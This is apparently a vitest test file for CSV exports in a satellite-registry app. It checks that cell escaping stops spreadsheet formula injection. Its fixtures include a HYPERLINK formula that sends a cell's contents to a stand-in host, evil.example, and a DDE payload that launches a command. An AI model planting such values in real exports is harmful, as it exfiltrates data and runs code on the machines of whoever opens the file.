import { beforeAll, describe, expect, it } from "vitest";
import { ctxAs, satelliteInput, seedRegions } from "../../test/factories";
import { auditCsv } from "../audit-log";
import type { Ctx } from "../auth/context";
import { db } from "../db";
import { registerSatellite } from "../satellites/register";
import { satellitesCsv } from "../satellites/export";
import { csvCell } from "./csv";

// An enrolling agent or an admin chooses a satellite's name: this one tries to become a formula in a
// spreadsheet that splits cells on ";" as well as in one that splits on ",".
const HOSTILE = 'Frankfurt;=HYPERLINK("https://evil.example/?d="&A1,"open")';
const DDE = "Frankfurt;=cmd|' /C calc'!A0";

/** Reads a CSV line the way a lenient spreadsheet does: quotes group text, `separator` splits cells. */
function cells(line: string, separator: string): string[] {
  const out: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (ch === '"' && quoted && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === separator && !quoted) {
      out.push(cell);
      cell = "";
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

/** A cell a spreadsheet would evaluate: a leading formula character on anything but a plain number. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

async function text(lines: AsyncGenerator<string>): Promise<string> {
  let out = "";
  for await (const chunk of lines) out += chunk;
  return out;
}

function expectNoFormula(csv: string) {
  const rows = csv.split("\r\n").filter(Boolean);
  for (const separator of [",", ";", "\t"]) {
    for (const row of rows) expect(cells(row, separator).filter(isFormula), row).toEqual([]);
  }
}

describe("csvCell", () => {
  it("quotes every text cell, doubling quotes inside", () => {
    expect(csvCell("Frankfurt")).toBe('"Frankfurt"');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell("")).toBe('""');
  });

  it("defuses a leading = + - @ tab or carriage return inside the quotes", () => {
    expect(csvCell("=SUM(A1)")).toBe(`"'=SUM(A1)"`);
    expect(csvCell("+1")).toBe(`"'+1"`);
    expect(csvCell("-1")).toBe(`"'-1"`);
    expect(csvCell("@cmd")).toBe(`"'@cmd"`);
    expect(csvCell("\t=1")).toBe(`"'\t=1"`);
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it("leaves numbers bare and empty cells empty", () => {
    expect(csvCell(-1.5)).toBe("-1.5");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
    expect(csvCell(Number.NaN)).toBe("");
  });

  it("never yields a formula cell, whatever separator reads it", () => {
    const line = [HOSTILE, "=1+1", "-2", -2, "x;@SUM(A1)"].map((v) => csvCell(v)).join(",");
    expectNoFormula(line);
    expect(cells(line, ",")[0]).toBe(HOSTILE);
  });
});

describe("both exports with a hostile satellite name", () => {
  let admin: Ctx;
  beforeAll(async () => {
    await seedRegions();
    admin = await ctxAs("admin");
    await registerSatellite(admin, satelliteInput({ name: HOSTILE, lon: -74.0, lat: -33.9 }));
    await registerSatellite(admin, satelliteInput({ name: DDE }));
  });

  it("the Satellites export quotes the name and no cell becomes a formula", async () => {
    const csv = await text(satellitesCsv(admin, {}));
    expect(csv).toContain(`"Frankfurt;=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
    expect(csv).toContain(`"${DDE}"`);
    expect(csv).toContain(",-74,");
    expectNoFormula(csv);
  });

  it("the audit export quotes the name it records and no cell becomes a formula", async () => {
    // Free text without a comma, which quoting only where needed used to leave bare.
    await db.auditEvent.create({
      data: {
        actorType: "agent",
        actorLabel: DDE,
        action: "satellite.enroll",
        targetType: "satellite",
        summary: DDE,
      },
    });
    const csv = await text(auditCsv(admin, {}));
    expect(csv).toContain("HYPERLINK");
    expect(csv).toContain("cmd|");
    expectNoFormula(csv);
  });
});
